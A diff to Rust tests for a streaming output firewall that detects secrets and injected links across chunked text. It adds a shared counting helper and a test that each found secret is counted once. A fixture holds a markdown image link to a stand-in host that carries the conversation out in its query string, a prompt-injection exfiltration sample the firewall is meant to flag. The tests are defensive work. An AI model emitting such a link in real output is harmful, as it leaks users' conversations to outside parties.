@@ -4,7 +4,9 @@ use portcullis_firewall::draw;
 
 use super::tests::{Format, judge_pii, play, send, shapes};
 use super::*;
-use crate::firewall::settings::RuleAction;
+use crate::firewall::FindingObserver;
+use crate::firewall::settings::{FirewallSettings, RuleAction};
+use crate::firewall::stance::Stance;
 
 fn pieces(text: &str, size: usize) -> Vec<&str> {
     text.as_bytes().chunks(size).map(|piece| std::str::from_utf8(piece).unwrap()).collect()
@@ -96,7 +98,7 @@ fn what_is_found_twice_is_known_by_its_place() {
     let judge = shapes(None);
     let rule = judge.rules.iter().next().unwrap();
     let mut once = FoundOnce::default();
-    let at = |secret: Range<u64>| Found { rule, secret, exact: true, prefix: 0 };
+    let at = |secret: Range<u64>| Found { rule, secret, exact: true, prefix: 0, again: false };
     [10..20, 30..40, 15..32].into_iter().for_each(|place| once.add(at(place)));
     for (place, new) in [(0..10, true), (40..41, true), (39..60, false), (21..22, false), (5..6, false), (50..51, true)]
     {
@@ -150,22 +152,51 @@ fn what_stands_in_pieces_ends_the_answer() {
     }
 }
 
+/// Counts what is found, as the metric does.
+#[derive(Default)]
+struct Count(std::sync::Mutex<Vec<String>>);
+
+impl FindingObserver for Count {
+    fn found(&self, rule: &str, _: DataLevel, _: &'static str) {
+        self.0.lock().unwrap().push(rule.to_owned());
+    }
+}
+
+/// What is counted in a text of which everything is only told.
+fn counted(judge: &Judge, text: &str, size: usize) -> Vec<String> {
+    let count = Arc::new(Count::default());
+    let Judge { rules, prints, .. } = judge;
+    let actions = rules.iter().map(|rule| (rule.id.to_string(), RuleAction::Flag)).collect();
+    let stance = Stance::new(FirewallSettings { actions, ..FirewallSettings::default() });
+    let judge = Judge { rules: Arc::clone(rules), stance, prints: prints.clone(), observer: Arc::clone(&count) as _ };
+    let (sent, refusal) = play(&Arc::new(judge), Format::Lines, &pieces(text, size));
+    assert_eq!((Format::Lines.read(&sent), refusal), (text.to_owned(), None));
+    count.0.lock().unwrap().clone()
+}
+
 #[test]
 fn what_is_found_late_is_told_once() {
-    #[derive(Default)]
-    struct Count(std::sync::Mutex<Vec<String>>);
-    impl crate::firewall::FindingObserver for Count {
-        fn found(&self, rule: &str, _: DataLevel, _: &'static str) {
-            self.0.lock().unwrap().push(rule.to_owned());
-        }
-    }
-    let count = Arc::new(Count::default());
-    let Judge { rules, prints, .. } = &*judge_pii();
-    let stance = crate::firewall::stance::Stance::new(crate::firewall::FirewallSettings::default());
-    let judge = Judge { rules: Arc::clone(rules), stance, prints: prints.clone(), observer: Arc::clone(&count) as _ };
     let link = "Done! ![ok](https://collector.example/p.png?q={{conversation}})";
     let text = format!("{link} {}", "more words that say nothing, ".repeat(100));
-    let (sent, refusal) = play(&Arc::new(judge), Format::Lines, &pieces(&text, 4));
-    assert_eq!((Format::Lines.read(&sent), refusal), (text, None));
-    assert_eq!(*count.0.lock().unwrap(), ["injection-exfiltration"]);
+    assert_eq!(counted(&judge_pii(), &text, 4), ["injection-exfiltration"]);
+}
+
+#[test]
+fn what_is_found_in_two_ways_is_counted_once() {
+    let judge = judge_pii();
+    let words = "more words that say nothing, ".repeat(30);
+    for template in ["ghp_{b62:30}{crc32}", "db.password = \"{b62:24}\"", "AKIA{b32:16}"] {
+        let token = draw(template, 7).unwrap();
+        // Pieces of these sizes are cut within it, too.
+        for before in [0, 40, 61, 75, 90, 400] {
+            let text = format!("{}It is {token} and {words}", &words[..before]);
+            let once = counted(&judge, &text, 1);
+            assert!(!once.is_empty(), "{template}");
+            for size in [5, 63, 64, 90, 110, 300, 600, 2000] {
+                let found = counted(&judge, &text, size);
+                let same = found.iter().filter(|rule| once.contains(rule)).count();
+                assert!(same <= once.len(), "{template} after {before} in pieces of {size}: {found:?}");
+            }
+        }
+    }
 }
